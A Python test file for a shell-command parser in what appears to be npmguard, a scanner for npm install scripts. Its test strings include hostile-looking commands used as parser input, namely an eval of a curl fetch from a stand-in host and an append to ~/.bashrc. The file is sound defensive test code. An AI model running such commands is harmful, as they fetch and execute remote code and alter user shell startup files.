from npmguard.code.shell import commands


def said(text: str) -> list[tuple[str, ...]]:
    return [command.words for command in commands(text)]


def test_operators_part_commands() -> None:
    assert said("a && b || c; d | e & f\ng") == [(x,) for x in "abcdefg"]


def test_quotes_hold_words_together() -> None:
    assert said("node -e \"try{require('./a')}catch(e){}\" || exit 0") == [
        ("node", "-e", "try{require('./a')}catch(e){}"),
        ("exit", "0"),
    ]
    assert said("echo 'a b'c\\ d") == [("echo", "a bc d")]


def test_redirections_are_no_words() -> None:
    (command,) = commands("node x.js > /dev/null 2>&1")
    assert (command.words, command.silent, command.writes) == (("node", "x.js"), True, ())
    (command,) = commands("echo x >> ~/.bashrc 2>/dev/null")
    assert (command.words, command.silent, command.writes) == (("echo", "x"), False, ("~/.bashrc",))


def test_substitutions_are_commands_too() -> None:
    (command,) = commands('eval "$(curl -s https://a.example.test)"')
    assert [inner.words for inner in command.inner] == [("curl", "-s", "https://a.example.test")]
    (command,) = commands("echo `whoami`")
    assert [inner.words for inner in command.inner] == [("whoami",)]


def test_a_pipe_feeds_the_next() -> None:
    assert [c.piped for c in commands("a | b && c")] == [False, True, False]


def test_subshells_and_lines() -> None:
    assert said(":; (node ./a.js || true)") == [(":",), ("node", "./a.js"), ("true",)]
    assert [c.line for c in commands("a\n\nb # c\nd")] == [1, 3, 4]


def test_windows_paths_stay() -> None:
    assert said("node dist\\setup.js") == [("node", "dist\\setup.js")]
